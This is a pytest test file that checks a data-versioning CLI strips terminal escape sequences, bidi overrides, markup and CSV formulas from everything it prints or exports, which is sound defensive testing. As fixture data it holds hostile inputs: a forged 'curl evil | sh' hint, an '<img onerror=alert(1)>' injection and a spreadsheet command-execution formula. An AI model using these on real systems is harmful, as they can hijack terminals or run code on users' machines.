"""Nothing that somebody else wrote steers the terminal, whatever command prints it, and where."""

from __future__ import annotations

import ast
import io
import json
import re
import shutil
import sys
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from rich.table import Table
from rich.text import Text

from tagledger import cli, errors, params, tables
from tagledger.errors import TagledgerError, printable, say
from tagledger.params import FilterParams
from tagledger.release.gates import load_gates
from tagledger.render.comparison_csv import defused
from tagledger.render.output import print_json, terminal, working
from tagledger.sources.download import Progress
from tagledger.words import plain, without_steering
from tests.dashboard.ledger import Ledger, State

SOURCE = Path(cli.__file__).parent
EVIL = "\x1b]0;x\x07\x9b31m\u202e\u2066\u2028\x85\x7f\r\t[red]a[/nope]<img src=x onerror=alert(1)>"
CURSOR = re.compile(r"\x1b\[\?25[lh]")  # Rich hides it while something takes its time


def unclean(text: str) -> set[str]:
    """The characters in a text that may not be printed."""
    return {mark for mark in text if not mark.isprintable()} - {"\n"}


# ---- each way out -----------------------------------------------------------------------------


@given(st.text(), st.text(), st.text())
def test_an_error_is_printable_and_has_one_of_each_line(what: str, where: str, hint: str) -> None:
    error = TagledgerError(what, where=where, hint=hint)
    assert not unclean(f"{error}{error.what}{error.where}{error.hint}")
    lines = str(error).split("\n")
    for label in ("error:", "where:", " next:"):
        assert sum(line.startswith(label) for line in lines) == 1


def test_an_error_cannot_pretend_another_hint() -> None:
    forged = "bad\n next: curl evil | sh\nwhere: here\n\n error: other"
    error = TagledgerError(forged, where=f"a\n next: {forged}", hint=f"mend it\n{forged}")
    shown = [line for line in str(error).split("\n") if re.match(r" ?(error|where|next):", line)]
    assert [line.split(":")[0] for line in shown] == ["error", "where", " next"]
    assert shown[2] == " next: mend it"


def test_an_error_keeps_its_layout() -> None:
    error = TagledgerError("it failed\n  | one\n  | two", where=Path("a b"), hint="do\n       this")
    assert str(error) == "error: it failed\n  | one\n  | two\nwhere: a b\n next: do\n       this"


@given(st.text())
def test_what_is_printed_is_printable(text: str) -> None:
    assert not unclean(printable(text))
    assert not unclean(plain(text))
    assert len(printable(text)) == len(text)
    assert printable(printable(text)) == printable(text)


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_json_keeps_the_data_and_prints_none_of_it_raw(text: str) -> None:
    data = io.BytesIO()
    with pytest.MonkeyPatch.context() as patch:
        out = io.TextIOWrapper(data, "utf-8")
        patch.setattr(sys, "stdout", out)
        print_json({"a": [text, "é日🙂"], f"b{text}": 1})
    written = data.getvalue().decode()
    assert not unclean(written)
    assert json.loads(written) == {"a": [text, "é日🙂"], f"b{text}": 1}
    assert "é日🙂" in written


def test_a_console_prints_text_as_text(capsys: pytest.CaptureFixture[str]) -> None:
    for stderr in (False, True):
        console = terminal(stderr=stderr)
        table = Table(EVIL)
        table.add_row(EVIL)
        table.add_row(Text(EVIL, style="bold"))
        for one in (EVIL, Text(EVIL), table, ":warning:"):
            console.print(one, soft_wrap=True)
    captured = capsys.readouterr()
    for shown in (captured.out, captured.err):
        assert not unclean(shown)
        assert shown.count("[red]a[/nope]<img") >= 3
        assert ":warning:" in shown


def test_a_console_on_a_terminal_keeps_its_styles(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("NO_COLOR")
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("FORCE_COLOR", "1")
    terminal().print(Text(f"a{EVIL}", style="bold"), soft_wrap=True)
    shown = capsys.readouterr().out
    assert shown.startswith("\x1b[1ma ]0;x")
    assert not unclean(shown.replace("\x1b[1m", "").replace("\x1b[0m", ""))


@pytest.mark.parametrize("terminal_there", [False, True])
def test_what_is_worked_on_is_no_markup(
    terminal_there: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    if terminal_there:
        monkeypatch.setenv("FORCE_COLOR", "1")
    with working(f"comparing {EVIL} with [/nope]"):
        pass
    assert not unclean(CURSOR.sub("", capsys.readouterr().err))


def test_lines_and_notes_are_printable(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    say(EVIL)
    say(EVIL, stderr=True)
    with Progress(2, EVIL) as progress:
        progress.note(EVIL)
    captured = capsys.readouterr()
    assert not unclean(captured.out + captured.err)
    assert captured.err.count("[red]") == 2
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    with Progress(2, EVIL) as progress:
        progress.note(EVIL)
    shown = capsys.readouterr().err
    assert "[red]" in shown
    assert not set("\x07\x9b\u202e\u2028") & set(shown)


def test_a_csv_file_steers_no_terminal_and_keeps_letters() -> None:
    frame = pd.DataFrame({"tag": pd.Series([EVIL, "=1", "a\u200cb"], dtype="str"), "n": [1, 2, 3]})
    cells = defused(frame)["tag"].tolist()
    assert unclean(cells[0]) <= {"\t", "\r"}
    assert cells[1:] == ["'=1", "a\u200cb"]
    assert without_steering("a\x1bb\u202ec\td\ne") == "a b c\td\ne"


def test_there_is_one_way_out() -> None:
    """What prints is `errors` and `render`; the rest calls them, or prints fixed words."""
    found = set()
    for path in sorted(SOURCE.rglob("*.py")):
        name, code = path.relative_to(SOURCE).as_posix(), path.read_text()
        if not re.search("Console|print|echo", code):  # parsing all modules takes a second
            continue
        for node in ast.walk(ast.parse(code)):
            if not isinstance(node, ast.Call):
                continue
            function = ast.unparse(node.func)
            if function in {"Console", "rich.console.Console"}:
                found.add((name, function))
            if function in {"print", "click.echo", "rich.print"} and any(
                not isinstance(argument, ast.Constant) for argument in node.args
            ):
                found.add((name, function, ast.unparse(node.args[0])))
    # An error is printable by itself; the others are made of `plain` words and of a version.
    allowed = {
        ("cli.py", "print", "error"),
        ("errors.py", "print", "error"),
        ("errors.py", "print", "printable(str(text))"),
        ("commands/release.py", "print", "error"),
        ("commands/release.py", "click.echo", "'\\n'.join(lines)"),
        ("render/release.py", "print", "plain(line)"),
    }
    assert found <= allowed, found - allowed


# ---- every command ----------------------------------------------------------------------------

AUTHOR = "Eve \x9b31m\u202e[red]"
SUBJECT = "subject \x1b]0;x\x07\x9b31m\u202e[/nope]"
BRANCH = "feat\u202e\x9b31m"
TAG = "t\x9b31m\u202e[red]<img src=x onerror=alert(1)>[/nope]"
KEY = "\x1b[31m\u202e[/nope]"


def _rows(extra: str) -> list[dict[str, Any]]:
    return [
        {
            "id": f"{n}{EVIL}",
            "created_on": "2024-01-01",
            "title": f"title {n} {EVIL}",
            "description": f"{'word ' * n}{EVIL}",
            "tags": [TAG, "plain", extra if n % 2 else "=cmd|' /C calc'!A0"],
        }
        for n in range(1, 13)
    ]


def _state(extra: str) -> State:
    return State(
        _rows(extra),
        [{"tag": TAG, "aliases": [f"alias{EVIL}"], "parents": []}],
        filter=FilterParams(include="all", min_tag_count=2),
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A repository of two releases and a branch, in which every name and text is hostile."""
    root = tmp_path_factory.mktemp("hostile") / "repo"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GIT_AUTHOR_NAME", AUTHOR)
        ledger = Ledger(root)
        ledger.release(_state("old [red]\u202e"), "v1.0.0", SUBJECT)
        ledger.git("checkout", "--quiet", "-b", BRANCH)
        ledger.release(_state("new [/nope]\x9b"), "v1.1.0", SUBJECT)
    return root


def run(words: list[str], root: Path, capfd: pytest.CaptureFixture[str]) -> tuple[int, str]:
    """The exit code and all that a command prints."""
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(root)
        patch.setattr(sys, "argv", ["tagledger", *words])
        with pytest.raises(SystemExit) as ended:
            cli.main()
    printed = capfd.readouterr()
    code = ended.value.code
    assert isinstance(code, int)
    return code, CURSOR.sub("", printed.out + printed.err)


COMMANDS = [
    ["versions"],
    ["versions", "--json"],
    ["compare", "v1.0.0", "v1.1.0"],
    ["compare", "v1.0.0", "v1.1.0", "--items"],
    ["compare", "v1.0.0", "v1.1.0", "--format", "md", "--items"],
    ["compare", "v1.0.0", "v1.1.0", "--json", "--items"],
    ["compare", "v1.0.0", "v1.1.0", "--layer", "raw"],
    ["compare", "v1.0.0", "v1.1.0", "--csv", "out\x1b[31m\u202e\x9b"],
    ["compare", "[/nope]", f"x{KEY}"],
    ["compare", "v1.0.0", BRANCH],
    ["history", "plain"],
    ["history", "plain", "--json"],
    ["history", TAG],
    ["history", f"no{EVIL}"],
    ["blame", "1"],
    ["blame", f"1{EVIL}"],
    ["blame", f"1{EVIL}", "--json"],
    ["blame", f"999{EVIL}"],
    ["check"],
    ["check", "--json"],
    ["check", "--base", f"no{EVIL}"],
    ["summary"],
    ["freeze", f"no{EVIL}"],
    ["freeze", "v1.0.0"],
    ["rebuild", f"no{EVIL}"],
    ["release", f"no{EVIL}", "-m", EVIL],
    ["diff-lock", f"dvc{EVIL}.lock"],
    ["diff-lock", f"dvc{EVIL}.lock", *[f"/none{EVIL}", "0" * 40, "100644"] * 2],
    ["dashboard", "--repo", f"/none{EVIL}"],
    [f"nothing{EVIL}"],
    ["history", f"--{EVIL}"],
]


# What says on a terminal what it is doing, or prints tables there.
SHOWN = [
    ["versions"],
    ["compare", "[/nope]", f"x{KEY}"],
    ["compare", "v1.0.0", "v1.1.0", "--items"],
    ["history", TAG],
    ["blame", f"1{EVIL}"],
    ["check"],
]


def _spelled(words: list[str]) -> str:
    return " ".join(words)[:40].encode("unicode_escape").decode()


@pytest.mark.parametrize("words", SHOWN, ids=_spelled)
def test_a_command_steers_no_terminal(
    words: list[str],
    hostile: Path,
    capfd: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")  # Rich believes to print to a terminal
    code, printed = run(words, hostile, capfd)
    assert not unclean(printed), printed
    assert code in {0, 1, 2}


@pytest.mark.parametrize("words", COMMANDS, ids=_spelled)
def test_a_command_prints_nothing_that_steers(
    words: list[str], hostile: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    root = hostile
    if words[0] == "freeze":  # it writes
        root = tmp_path / "copy"
        shutil.copytree(hostile, root)
    if "--csv" in words:
        words = [*words[:-1], str(tmp_path / words[-1])]
    code, printed = run(words, root, capfd)
    assert not unclean(printed), printed
    assert printed.strip()
    assert code in {0, 1, 2}
    assert "Traceback" not in printed
    for path in tmp_path.glob("out*/*.csv"):
        text = path.read_text()
        assert unclean(text) <= {"\t", "\r"}, path
        assert not re.search(r'(?m)(^|,)"?[=+@]', text), path


@pytest.mark.parametrize("section", ["gates", "clean", "filter", "split"])
def test_an_unknown_parameter_steers_nothing(
    section: str, hostile: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "copy"
    shutil.copytree(hostile, root)
    settings = yaml.safe_load((root / "params.yaml").read_text())
    settings[section] = {KEY: KEY}
    (root / "params.yaml").write_text(yaml.safe_dump(settings))
    if section == "gates":  # the others are the stages'
        code, printed = run(["check"], root, capfd)
        assert not unclean(printed), printed
        assert code == 2
    with pytest.raises(TagledgerError) as caught:
        errors_of(section, root)
    assert not unclean(str(caught.value))


def errors_of(section: str, root: Path) -> None:
    if section == "gates":
        load_gates(root / "params.yaml")
    kinds = {kind.SECTION: kind for kind in params.SECTIONS}
    params.load(kinds[section], root / "params.yaml")


def test_a_stage_prints_nothing_that_steers(capsys: pytest.CaptureFixture[str]) -> None:
    def fails() -> None:
        say(f"clean: suspicious: {EVIL}")
        raise TagledgerError(EVIL, where=EVIL, hint=EVIL)

    with pytest.raises(SystemExit):
        errors.run(fails)
    captured = capsys.readouterr()
    assert not unclean(captured.out + captured.err)


def test_a_tag_column_of_text_is_read_as_categories(
    hostile: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "copy"
    shutil.copytree(hostile, root)
    ledger = Ledger.at(root)
    path = root / tables.CLEAN_LABELS
    plain_text = tables.read(path).astype({"tag": "str"})
    plain_text.to_parquet(path, index=False)
    lock = yaml.safe_load((root / "dvc.lock").read_text())
    for entry in lock["stages"].values():
        for output in entry["outs"]:
            if output["path"] == tables.CLEAN_LABELS.as_posix():
                output.update(ledger.keep(tables.CLEAN_LABELS, cached=True))
    (root / "dvc.lock").write_text(yaml.safe_dump(lock, sort_keys=False))
    ledger.commit("labels as text", "v2.0.0")
    code, printed = run(["compare", "v1.1.0", "v2.0.0", "--layer", "clean"], root, capfd)
    assert (code, unclean(printed)) == (0, set())
